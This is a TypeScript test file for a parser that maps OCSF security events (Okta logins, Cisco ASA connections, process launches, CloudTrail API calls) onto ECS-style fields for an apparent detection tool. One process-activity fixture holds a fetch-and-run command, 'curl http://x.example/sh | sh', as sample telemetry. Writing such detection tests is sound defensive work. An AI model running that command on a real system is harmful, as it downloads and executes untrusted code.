import { classFromEcsCategory } from '../../event-classes';
import { parseJson } from '../json-parser';
import { isOcsf } from './ocsf-parser';

const parse = (record: unknown) => parseJson(JSON.stringify(record), { receivedAt: 0 });

// ocsf/examples mappings/markdown/Okta/v1.3.0/System Logs/Authentication/samples/authentication.ocsf (trimmed)
const oktaLogon = {
  activity_id: 1, activity_name: 'Logon',
  actor: { session: { uid: 'idxBager62CSveUkTxvgRtonA' }, user: { email_addr: 'john.doe@example.com', name: 'John Doe', type_id: 1, uid: '00uttidj01jqL21aM1d6' } },
  category_name: 'Identity & Access Management', category_uid: 3, class_name: 'Authentication', class_uid: 3002,
  device: { name: 'Mac15,6', uid: 'guofdhyjex1feOgbN1d9', type_id: 0 },
  http_request: { user_agent: 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)' },
  message: 'User login to Okta',
  metadata: { event_code: 'user.sesion.start', product: { name: 'Okta System Log', vendor_name: 'Okta', version: '0' }, version: '1.3.0' },
  severity: 'Informational', severity_id: 1, src_endpoint: { ip: '10.0.0.1' },
  status: 'Success', status_id: 1, time: 1723564700, time_dt: '2024-08-13T15:58:20.000Z', type_uid: 300201,
  user: { email_addr: 'john.doe@example.com', name: 'John Doe', type_id: 1, uid: '00uttidj01jqL21aM1d6' },
};

// ocsf/examples mappings/markdown/Cisco/v1.3.0/ASA/302013/samples/cisco_asa_302013.ocsf (trimmed)
const asaOpen = {
  activity_id: 1, activity_name: 'Open', category_uid: 4, class_uid: 4001, time: 1539174896000,
  src_endpoint: { ip: '100.66.205.104', port: 80, interface_name: 'outside' },
  dst_endpoint: { ip: '172.31.98.44', port: 1772, interface_name: 'inside' },
  connection_info: { direction_id: 2, protocol_name: 'TCP', uid: '11757' },
  severity_id: 1, status: 'Success', status_id: 1, type_uid: 400101,
  metadata: { event_code: '302013', product: { vendor_name: 'Cisco', name: 'Cisco ASA' }, version: '1.3.0' },
};

describe('OCSF events', () => {
  it('Authentication (3002): user, source, outcome, time from time_dt', () => {
    const parsed = parse(oktaLogon);
    expect(parsed.format).toBe('ocsf');
    expect(parsed.fields).toMatchObject({
      '@timestamp': '2024-08-13T15:58:20.000Z', 'event.category': 'authentication', 'event.action': 'Logon', 'event.outcome': 'success',
      'event.severity': '1', 'user.name': 'John Doe', 'source.ip': '10.0.0.1', 'host.name': 'Mac15,6', message: 'User login to Okta',
      'observer.vendor': 'Okta', 'observer.product': 'Okta System Log',
    });
    expect(parsed.time).toBe(Date.parse('2024-08-13T15:58:20Z'));
    expect(parsed.original['actor.user.uid']).toBe('00uttidj01jqL21aM1d6');
  });

  it('Network Activity (4001): endpoints and transport; time in milliseconds', () => {
    const parsed = parse(asaOpen);
    expect(parsed.fields).toMatchObject({
      '@timestamp': '2018-10-10T12:34:56.000Z', 'event.category': 'network', 'source.ip': '100.66.205.104', 'source.port': '80',
      'destination.ip': '172.31.98.44', 'destination.port': '1772', 'network.transport': 'tcp', 'event.outcome': 'success',
    });
    expect(parsed.original).toMatchObject({ SourceIp: '100.66.205.104', DestinationIp: '172.31.98.44', DestinationPort: '1772', Protocol: 'tcp', src_ip: '100.66.205.104' });
  });

  it('time in seconds, as several mappers write it, is read as seconds', () => {
    expect(parse({ ...asaOpen, time: 1729052821 }).fields['@timestamp']).toBe('2024-10-16T04:27:01.000Z');
  });

  it('maps classes, then categories, onto Quell classes', () => {
    const classOf = (class_uid: number, category_uid?: number) => classFromEcsCategory(parse({ class_uid, category_uid, activity_id: 1, time: 0 }).fields['event.category']);
    expect(classOf(1007)).toBe('process');
    expect(classOf(1001)).toBe('file');
    expect(classOf(2004)).toBe('threat');
    expect(classOf(3001)).toBe('authentication');
    expect(classOf(4003)).toBe('network');
    expect(classOf(5019)).toBe('config_change');
    // activity_id 1 is Create: an API Activity that creates is a configuration change (see below).
    expect(classOf(6003)).toBe('config_change');
    expect(classOf(1099, 1)).toBe('system');
    expect(classOf(4099)).toBe('network');
  });

  it('process activity: process and parent, and the Sigma process_creation names', () => {
    const parsed = parse({
      class_uid: 1007, category_uid: 1, activity_id: 1, time: 1700000000000, status_id: 2, severity_id: 4,
      device: { hostname: 'web-1', ip: '10.0.0.5' }, actor: { user: { name: 'root' } },
      process: { pid: 4242, name: 'curl', cmd_line: 'curl http://x.example/sh | sh', file: { path: '/usr/bin/curl' }, parent_process: { pid: 1, name: 'bash', cmd_line: '-bash', file: { path: '/bin/bash' } } },
      attacks: [{ technique: { uid: 'T1105', name: 'Ingress Tool Transfer' }, tactic: { uid: 'TA0011' } }],
    });
    expect(parsed.fields).toMatchObject({
      'event.category': 'process', 'event.outcome': 'failure', 'event.severity': '7', 'host.name': 'web-1', 'host.ip': '10.0.0.5', 'user.name': 'root',
      'process.pid': '4242', 'process.name': 'curl', 'process.executable': '/usr/bin/curl', 'process.command_line': 'curl http://x.example/sh | sh',
      'process.parent.name': 'bash', 'process.parent.command_line': '-bash',
    });
    expect(parsed.techniques).toEqual(['T1105']);
    expect(parsed.original).toMatchObject({ Image: '/usr/bin/curl', CommandLine: 'curl http://x.example/sh | sh', ParentImage: '/bin/bash', ParentCommandLine: '-bash', User: 'root', ProcessId: '4242' });
  });

  it('API Activity (6003): Create, Update and Delete calls are configuration changes, Read is not', () => {
    // The ocsf/examples CloudTrail API Activity sample (fixtures/ocsf/ocsf-examples-cloudtrail.jsonl) with its activity varied.
    const call = (activity_id: number, activity_name: string) => ({
      activity_id, activity_name, class_uid: 6003, category_uid: 6, metadata: { product: { name: 'CloudTrail', vendor_name: 'AWS' }, version: '1.5.0' },
      api: { operation: 'UpdateTrail', service: { name: 'cloudtrail.amazonaws.com' } }, cloud: { provider: 'AWS', account: { uid: '1111111111111' }, region: 'us-east-1' },
    });
    const categories = [[1, 'Create'], [2, 'Read'], [3, 'Update'], [4, 'Delete']].map(([id, name]) => parse(call(id as number, name as string)).fields['event.category']);
    expect(categories).toEqual(['configuration', 'api', 'configuration', 'configuration']);
    expect(parse(call(3, 'Update')).fields).toMatchObject({ 'cloud.provider': 'AWS', 'cloud.account.id': '1111111111111', 'cloud.service.name': 'cloudtrail.amazonaws.com' });
  });

  it('recognizes OCSF by a numeric class_uid beside an OCSF marker', () => {
    expect(isOcsf({ class_uid: 3002, activity_id: 1 })).toBe(true);
    expect(isOcsf({ class_uid: '4001', metadata: { version: '1.1.0' } })).toBe(true);
    expect(isOcsf({ class_uid: 3002 })).toBe(false);
    expect(isOcsf({ class_uid: 'auth', activity_id: 1 })).toBe(false);
    expect(parse({ class_uid: 'auth', activity_id: 1 }).format).toBe('json');
  });
});
